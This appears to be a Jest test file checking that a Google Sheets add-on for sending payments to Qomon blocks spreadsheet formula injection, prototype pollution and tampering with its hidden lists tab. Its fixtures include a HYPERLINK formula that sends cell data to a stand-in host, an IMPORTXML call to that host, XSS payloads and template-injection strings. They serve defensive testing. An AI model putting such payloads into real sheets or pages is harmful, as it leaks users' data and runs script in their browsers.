import { describe, expect, test } from '@jest/globals';
import { Office } from '../support/office';
import { addColumns, choose, PAYMENT } from '../support/rows';

/** What somebody may call themselves on a public form, or a colleague may call a price. */
const TEXTS = [
  '=HYPERLINK("https://evil.example/?"&A2,"Camille")',
  '=IMPORTXML("https://evil.example","//a")',
  '+33 6 12 34 56 78',
  '-2+3',
  '@here',
  '\t=1+1',
  "'=1+1",
  '<img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  'line one\n=1+1',
  '\u202Eevil',
];

/** Every formula anywhere in the spreadsheet, of hidden tabs too. */
function formulas({ google: { workbook } }: Office): string[] {
  return workbook
    .sheets()
    .flatMap(({ name }) => workbook.formulas(name).flat())
    .filter((formula) => formula !== '');
}

describe.each(TEXTS)('somebody who calls a thing %j', (text) => {
  test('gets no formula into the sheet by the name of a payer', () => {
    const office = Office.ready();
    const { contacts } = office.qomon.space.state;
    office.qomon.space.change({
      contacts: contacts.map((one) =>
        one.id === 123456 ? { ...one, firstname: text, surname: text } : one,
      ),
    });
    office.type([{ ...PAYMENT, 'Payer email': 'camille.moreau@example.org', 'Payer ID': '' }]);
    choose(office, 'checkRows', '2:3');
    expect(formulas(office)).toEqual([]);
    expect(typeof office.cell('Payer name', 2)).toBe('string');
    expect(office.cell('Payer ID', 2)).toBe(123456);
  });

  test('gets no formula into the sheet by the name of a price, a status or a campaign', () => {
    const office = Office.ready();
    const { membershipPrices, statuses, codeCampaigns, settings } = office.qomon.space.state;
    office.qomon.space.change({
      membershipPrices: membershipPrices.map((one) => ({ ...one, name: text })),
      statuses: statuses.map((one) => ({ ...one, name: text })),
      codeCampaigns: codeCampaigns.map((one) => ({ ...one, code: text })),
      settings: { ...settings, payment_method_kinds: ['CB', text] },
    });
    office.call('refreshLists');
    office.type([{ ...PAYMENT, Membership: '#10' }]);
    office.send('2');
    expect(formulas(office)).toEqual([]);
    expect(office.cell('State', 2)).toBe('Sent');
  });

  test('gets it to Qomon as it was typed, and no cell of the row changed by it', () => {
    const office = Office.ready();
    office.google.workbook.format('Bundles', office.at('Comment', 2), '@');
    office.type([PAYMENT]);
    office.google.workbook.put('Bundles', office.at('Comment', 2), [[text]]);
    const run = office.send('2');
    expect(office.cell('Comment', 2)).toBe(text);
    expect(office.posted(run)).toMatchObject([
      { data: { transactions: [{ comment: text.trim() }] } },
    ]);
    expect(formulas(office)).toEqual([]);
  });
});

describe('a formula that an editor has put into a cell', () => {
  test('is read by its value, stays a formula, and is never made by the add-on', () => {
    const office = Office.ready();
    office.type([{ ...PAYMENT, Amount: '' }]);
    const at = office.at('Amount', 2);
    office.google.workbook.type('Bundles', at, '=10*2');
    office.google.workbook.computed('Bundles', at, 20);
    const run = office.send('2');
    expect(office.posted(run)).toMatchObject([{ data: { transactions: [{ amount: 2000 }] } }]);
    expect(formulas(office)).toEqual(['=10*2']);
  });
});

describe('a cell with as much text as a cell holds', () => {
  test('does not keep the other rows from being sent, and is told or sent whole', () => {
    const office = Office.ready();
    office.type([PAYMENT, { ...PAYMENT, Amount: '30' }]);
    const long = 'é'.repeat(50_000);
    office.google.workbook.put('Bundles', office.at('Comment', 2), [[long]]);
    const run = office.send('2:3');
    expect(office.column('State')).toEqual(['Sent', 'Sent']);
    expect(office.posted(run)).toContainEqual(
      expect.objectContaining({
        data: { transactions: [expect.objectContaining({ comment: long })] },
      }),
    );
  });
});

describe('a tab with a hostile header or name', () => {
  test('is left alone, and the rows of the other tabs are sent', () => {
    const office = Office.ready();
    const { workbook } = office.google;
    workbook.addSheet('=1+1 <b>');
    workbook.put('=1+1 <b>', 'A1', [
      ['Payer ID', 'x'.repeat(50_000), '__proto__', 'constructor', 'State', 'toString'],
    ]);
    addColumns(office, ['__proto__', 'constructor', 'toString']);
    office.type([PAYMENT]);
    office.send('2');
    expect(office.column('State')).toEqual(['Sent']);
    expect(formulas(office)).toEqual([]);
  });
});

describe('an editor who tampers with the lists', () => {
  /** Replaces a text anywhere in the hidden tab. */
  function tamper(office: Office, from: RegExp, to: string): void {
    const { workbook } = office.google;
    const values = workbook.values('Qomon lists');
    const changed = values.map((row) =>
      row.map((cell) => (typeof cell === 'string' ? cell.replace(from, to) : cell)),
    );
    expect(changed).not.toEqual(values);
    workbook.put('Qomon lists', 'A1', changed);
  }

  test('changes no amount that is paid: the dialog and Qomon have what the row says', () => {
    const office = Office.ready();
    tamper(office, /"amount":2000/, '"amount":1');
    office.type([{ ...PAYMENT, Membership: '#10', 'Membership amount': '20' }]);
    const run = office.send('2');
    expect(office.dialogs[0]?.prompt).toContain('20.00 EUR');
    expect(office.dialogs[0]?.prompt).toContain('1 warning');
    expect(office.posted(run)).toMatchObject([{ data: { transactions: [{ amount: 2000 }] } }]);
  });

  test('cannot change the currency unseen', () => {
    const office = Office.ready();
    tamper(office, /"currency":"eur"/, '"currency":"usd"');
    office.answer = () => 'CANCEL';
    office.type([PAYMENT]);
    office.send('2');
    expect(office.dialogs[0]?.prompt).toContain('20.00 USD');
    expect(office.qomon.ledger.bundles).toEqual([]);
  });

  test.each([
    ['what is no JSON', /\{/, '{{'],
    ['another shape', /"id":/, '"__proto__":'],
    ['a formula', /^\{.*$/, '=1+1'],
  ])('gets rows told, not sent wrongly, by %s', (_, from, to) => {
    const office = Office.ready();
    tamper(office, from, to);
    office.type([{ ...PAYMENT, Membership: '#10' }]);
    const run = office.send('2');
    expect(office.posted(run)).toEqual([]);
    expect(office.said()).not.toBe('');
    office.call('refreshLists');
    office.send('2');
    expect(office.cell('State', 2)).toBe('Sent');
  });
});
